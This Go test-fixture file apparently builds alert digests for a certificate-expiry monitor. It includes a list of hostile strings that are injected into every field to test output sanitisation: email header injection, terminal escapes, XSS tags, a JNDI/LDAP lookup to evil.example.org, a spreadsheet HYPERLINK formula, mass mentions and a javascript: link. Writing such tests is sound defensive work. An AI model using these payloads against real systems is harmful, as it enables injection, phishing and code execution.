package alerttest

import (
	"fmt"
	"strings"
	"time"

	"lapsewatch/alerts"
	"lapsewatch/watch"
)

// ChannelName is the name of the channel that the suites configure.
const ChannelName = "operations"

// Now is the instant of every message that this package makes.
func Now() time.Time { return time.Date(2026, time.November, 22, 6, 0, 0, 0, time.UTC) }

// Message is an ordinary digest: something critical, something new, something that
// nobody could look at and something renewed, for one recipient.
func Message() alerts.Message {
	return alerts.Message{
		ID:        "8a5be0f2c1d34e6f9a0b1c2d3e4f5061",
		Channel:   ChannelName,
		CreatedAt: Now(),
		Events: []watch.Event{
			event(watch.Worsened, watch.Warning, expiring("shop.example.com:443", watch.Critical, 4)),
			event(watch.Opened, "", expiring("mail.example.com:587", watch.Warning, 21)),
			event(watch.Reminder, watch.Warning, expiring("/etc/ssl/private/intranet.pem", watch.Warning, 25)),
			event(watch.Opened, "", unreadable()),
			event(watch.Resolved, watch.Warning, expiring("www.example.com:443", watch.OK, 89)),
		},
	}
}

func event(kind watch.EventType, previous watch.Severity, finding watch.Finding) watch.Event {
	made := watch.Event{ID: "event of " + finding.Name, Type: kind, At: Now(), Previous: previous, Finding: finding}
	if kind == watch.Resolved {
		made.Why = watch.Renewed
	}
	return made
}

func expiring(name string, severity watch.Severity, days int64) watch.Finding {
	notAfter := Now().Add(time.Duration(days)*24*time.Hour + 4*time.Hour)
	finding := watch.Finding{
		ID: "public-sites/" + name, Check: "public-sites", Kind: "tls", Name: name, Severity: severity,
		Message:   fmt.Sprintf("certificate expires %s, in %d days", notAfter.Format("2006-01-02 15:04 UTC"), days),
		NotBefore: notAfter.AddDate(-1, 0, 0), NotAfter: notAfter, DaysLeft: &days,
		Owners: []string{"Platform team <platform@example.com>"}, Labels: map[string]string{"team": "platform"},
		Details: map[string]any{"issuer": "Example Issuing CA 1", "names": []string{"example.com", "www.example.com"}, "chain_length": 3},
		Link:    "https://inventory.example.com/certificates/42",
	}
	if severity != watch.OK {
		finding.Reason, finding.Remedy = watch.ExpiresSoon, "Renew it and install the new one before that date."
	}
	return finding
}

func unreadable() watch.Finding {
	return watch.Finding{
		ID: "public-sites/legacy.example.com:8443", Check: "public-sites", Kind: "tls", Name: "legacy.example.com:8443",
		Severity: watch.Unknown, Reason: watch.TimedOut, Message: "could not be read: no answer within 5s",
		Owners: []string{"Platform team <platform@example.com>"},
		Remedy: "Check that the service answers and that no firewall drops the packets; a slow service may need a longer timeout.",
	}
}

// hostileTexts are what outside input may hold: header injection, terminal escapes,
// direction overrides, markup, links, templates, formulas, mentions and broken encoding.
var hostileTexts = []string{
	"evil.example.com\r\nBcc: victim@example.org\r\n\r\ninjected body",
	"\x1b]0;owned\x07\x1b[2J\x1b[31mred",
	"moc.elpmaxe\u202egro.live\u2066\u200b\ufeff",
	"nul\x00del\x7fc1\u0085\u009b31m",
	`<script>alert(1)</script>"><img src=x onerror=alert(1)>`,
	"</script></style></td></table><iframe src=https://evil.example.org>",
	"{{.Secrets}}${jndi:ldap://evil.example.org}%s%n",
	`=HYPERLINK("https://evil.example.org";"renew")`,
	"<!channel> <@U1> @everyone <https://evil.example.org|portal> [renew](https://evil.example.org)",
	"invalid \xff\xfe\xed\xa0\x80 encoding",
	strings.Repeat("long", 16<<10),
}

// HostileMessage is a digest in which every text from outside attacks the receiver.
func HostileMessage() alerts.Message {
	message := Message()
	message.Events = nil
	names := make([]string, 10_000)
	for i := range names {
		names[i] = fmt.Sprintf("san-%d.example.com", i)
	}
	for i, text := range hostileTexts {
		finding := expiring(text, watch.Warning, int64(i))
		finding.ID = "public-sites/" + text
		finding.Message, finding.Remedy = "certificate of "+text+" expires", text
		finding.Owners = []string{text}
		finding.Labels = map[string]string{text: text}
		finding.Details = map[string]any{"subject": text, "names": append([]string{text}, names...), text: text}
		finding.Link = "javascript:alert('" + text + "')"
		finding.Also = []watch.Judgement{{Reason: watch.NameMismatch, Severity: watch.Warning, Message: text}}
		message.Events = append(message.Events, event(watch.Opened, "", finding))
	}
	return message
}
